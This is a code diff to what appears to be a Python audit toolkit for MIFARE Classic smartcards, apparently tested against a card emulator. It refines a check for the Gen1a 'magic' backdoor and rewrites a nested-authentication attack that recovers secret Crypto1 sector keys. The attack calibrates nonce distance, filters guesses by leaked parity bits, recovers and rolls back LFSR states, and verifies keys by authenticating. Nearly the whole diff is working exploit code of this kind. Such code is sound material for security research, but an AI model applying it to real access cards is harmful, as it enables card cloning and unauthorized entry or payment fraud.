@@ -10,13 +10,15 @@
 from __future__ import annotations
 
 import enum
+import statistics
 from collections.abc import Iterable
+from typing import Final
 
 import numpy as np
 
 from audit.crypto1_recovery import lfsr_recovery32
-from cardsim.crypto1 import bebit, encrypt_bytes, is_weak_nonce, odd_parity, prng_successor
-from cardsim.mifare import ACK, BACKDOOR_KEY, Frame
+from cardsim.crypto1 import Crypto1, bebit, encrypt_bytes, is_weak_nonce, odd_parity, prng_successor
+from cardsim.mifare import ACK, BACKDOOR_KEY, Frame, M1Command
 from terminals.m1 import FrameSlot, M1Chip, M1Error, M1Link, M1Reader, M1Slot, with_crc
 
 # The head of the public default-key dictionary (proxmark3 / libnfc lists).
@@ -97,10 +99,13 @@ def classify_prng(nonces: list[int]) -> PrngClass:
 
 
 def has_gen1a_backdoor(link: M1Link) -> bool:
-    """True when the card acknowledges the 7-bit 40 then 43 commands (Gen1a magic)."""
+    """True when the card acknowledges the Gen1a unlock as libnfc sends it: HLTA, 40 as a 7-bit short frame, then
+    43 as a whole byte with its parity bit, each answered by a 4-bit ACK (Gen1a magic)."""
     link.power_on()
+    # HLTA first, as libnfc does (a Gen1a answers 40 even halted); the card answers nothing to it
+    link.transceive(Frame(with_crc(link, bytes([M1Command.HALT, 0x00]))))
     first = link.transceive(Frame(b"\x40", bits=7))
-    second = link.transceive(Frame(b"\x43", bits=7)) if first is not None else None
+    second = link.transceive(Frame(b"\x43")) if first is not None else None
     link.power_on()
     return all(f is not None and f.bits == 4 and f.data[0] == ACK for f in (first, second))
 
@@ -119,9 +124,33 @@ def _distance(start: int, end: int, limit: int = 65536) -> int | None:
     return None
 
 
-def _nested_nonce(
-    link: M1Link, uid: int, block: int, key: int, key_type: int, target: tuple[int, int]
-) -> tuple[int, int, tuple[int, ...]]:
+# Nonce distance: the median of several measurements, and a window around it wide enough for a real card, whose
+# distance varies with the reader's timing by far more than the emulator's 0..3 steps (mfoc: tolerance 20).
+CALIBRATIONS: Final = 5
+NESTED_WINDOW: Final = 20
+
+
+def _calibrate(link: M1Link, uid: int, block: int, key: int, key_type: int) -> int:
+    """The PRNG steps between a plain and a nested nonce on the sector whose key is known (median)."""
+    distances = []
+    for _ in range(CALIBRATIONS):
+        link.power_on()
+        reader = M1Reader(link, uid)
+        reader.authenticate(block, key, key_type)
+        first = reader.last_nt
+        reader.authenticate(block, key, key_type)
+        distance = _distance(first, reader.last_nt)
+        if distance is not None:
+            distances.append(distance)
+    if not distances:
+        raise AttackFailed("could not measure the nonce distance")
+    return int(statistics.median_low(distances))
+
+
+_NestedNonce = tuple[int, int, tuple[int, ...]]  # plain nT of the known sector, {nT} of the target, its parities
+
+
+def _nested_nonce(link: M1Link, uid: int, block: int, key: int, key_type: int, target: tuple[int, int]) -> _NestedNonce:
     """Authenticate with the known key, then request the target: (plain nT of the first, {nT}, parities)."""
     link.power_on()
     reader = M1Reader(link, uid)
@@ -134,66 +163,74 @@ def _nested_nonce(
     return reader.last_nt, int.from_bytes(answer.data), answer.parity
 
 
+def _key_states(uid: int, nonce: _NestedNonce, guess: int) -> Crypto1 | None:
+    """Cipher states loaded with each key that encrypts ``guess`` as the nested nonce (None when the three
+    parity bits inside the nonce already rule the guess out, which spares the state recovery 7 times in 8)."""
+    _, enc_nt, parities = nonce
+    ks = enc_nt ^ guess
+    guess_bytes = guess.to_bytes(4)
+    if any(parities[i] ^ odd_parity(guess_bytes[i]) != bebit(ks, 8 * (i + 1)) for i in range(3)):
+        return None
+    states = lfsr_recovery32(ks, guess ^ uid)
+    keep = states.peek() == parities[3] ^ odd_parity(guess_bytes[3])
+    states = Crypto1(states.odd[keep], states.even[keep])
+    states.rollback_word(guess ^ uid)
+    return states
+
+
+def _explaining(states: Crypto1, uid: int, nonce: _NestedNonce, guesses: np.ndarray) -> Crypto1:
+    """The key states under which the nested nonce ``nonce`` decrypts to one of ``guesses``."""
+    cipher = states.copy()
+    plain = cipher.word(uid ^ nonce[1], encrypted=True) ^ nonce[1]
+    keep = np.isin(plain, guesses)
+    return Crypto1(states.odd[keep], states.even[keep])
+
+
 def nested_attack(
     link: M1Chip,
     uid: int,
     known: tuple[int, int, int],
     target: tuple[int, int],
-    window: int = 3,
+    window: int = NESTED_WINDOW,
     attempts: int = 4,
 ) -> int:
     """Recover the key of ``target`` = (block, key type) from ``known`` = (block, key, key type).
 
-    Needs a weak PRNG: the nonce of the nested authentication is predicted from the plain one and the
-    distance measured on the known sector, candidates are filtered by the leaked parity bits, and each
-    surviving keystream is inverted (lfsr_recovery32) and rolled back to key candidates. Candidate sets
-    of several attempts are intersected until one key is left, which is then checked by authenticating.
+    Needs a weak PRNG. The distance between a plain and a nested nonce is measured on the known sector (median
+    of several); then ``attempts`` nested authentications to the target are recorded. For the first, each nonce
+    within ``window`` steps of that distance is a guess, nearest first: the three parity bits inside the nonce
+    rule most guesses out, and each one left gives a keystream that is inverted (lfsr_recovery32) and rolled back
+    to key candidates. The other nested nonces must decrypt, under a candidate key, to a nonce within the window
+    of their own plain nonce, which leaves the true key alone; it is checked by authenticating.
     """
     known_block, known_key, known_type = known
     nonces = collect_nonces(link, 3, known_block)
     if classify_prng(nonces) is not PrngClass.WEAK:
         raise AttackFailed("nested attack needs a weak PRNG; this card's nonces are not predictable")
-    # Calibrate: distance between a plain and a nested nonce on the sector whose key we know.
-    link.power_on()
-    reader = M1Reader(link, uid)
-    reader.authenticate(known_block, known_key, known_type)
-    first = reader.last_nt
-    reader.authenticate(known_block, known_key, known_type)
-    distance = _distance(first, reader.last_nt)
-    if distance is None:
-        raise AttackFailed("could not measure the nonce distance")
+    distance = _calibrate(link, uid, known_block, known_key, known_type)
+    steps = sorted(range(max(0, distance - window), distance + window + 1), key=lambda n: abs(n - distance))
 
-    survivors: np.ndarray | None = None
-    seen: set[tuple[int, int]] = set()
+    samples: list[_NestedNonce] = []
     for _ in range(attempts * 8):
-        if len(seen) == attempts:
+        if len(samples) == attempts:
             break
-        plain_nt, enc_nt, parities = _nested_nonce(link, uid, known_block, known_key, known_type, target)
-        if (plain_nt, enc_nt) in seen:
-            continue  # the same nonces again (PRNG restarted at power-up): they would tell nothing new
-        seen.add((plain_nt, enc_nt))
-        keys = []
-        for delta in range(-window, window + 1):
-            if distance + delta < 0:
-                continue
-            guess = prng_successor(plain_nt, distance + delta)
-            ks = enc_nt ^ guess
-            guess_bytes = guess.to_bytes(4)
-            if any(parities[i] ^ odd_parity(guess_bytes[i]) != bebit(ks, 8 * (i + 1)) for i in range(3)):
-                continue
-            states = lfsr_recovery32(ks, guess ^ uid)
-            last = parities[3] ^ odd_parity(guess_bytes[3])
-            keep = states.peek() == last
-            states.odd, states.even = states.odd[keep], states.even[keep]
-            states.rollback_word(guess ^ uid)
-            keys.append(np.unique(states.lfsr()))
-        found = np.unique(np.concatenate(keys)) if keys else np.array([], dtype=np.uint64)
-        survivors = found if survivors is None else np.intersect1d(survivors, found)
-        if len(survivors) <= 1:
-            break
-    if survivors is None or len(survivors) == 0:
+        sample = _nested_nonce(link, uid, known_block, known_key, known_type, target)
+        if all(sample[:2] != seen[:2] for seen in samples):  # the same nonces again (PRNG restarted) tell nothing
+            samples.append(sample)
+    first, checks = samples[0], samples[1:]
+    windows = [np.array([prng_successor(check[0], n) for n in steps], dtype=np.uint64) for check in checks]
+    candidates = 0
+    for n in steps:
+        states = _key_states(uid, first, prng_successor(first[0], n))
+        if states is None:
+            continue
+        for check, guesses in zip(checks, windows, strict=True):
+            states = _explaining(states, uid, check, guesses)
+        keys = np.unique(states.lfsr())
+        candidates += len(keys)
+        for key in keys[:64]:
+            if try_key(FrameSlot(link), target[0], int(key), target[1]):
+                return int(key)
+    if not candidates:
         raise AttackFailed("no key candidate survived")
-    for key in survivors[:64]:
-        if try_key(FrameSlot(link), target[0], int(key), target[1]):
-            return int(key)
-    raise AttackFailed(f"{len(survivors)} candidates left, none authenticates")
+    raise AttackFailed(f"{candidates} candidates left, none authenticates")
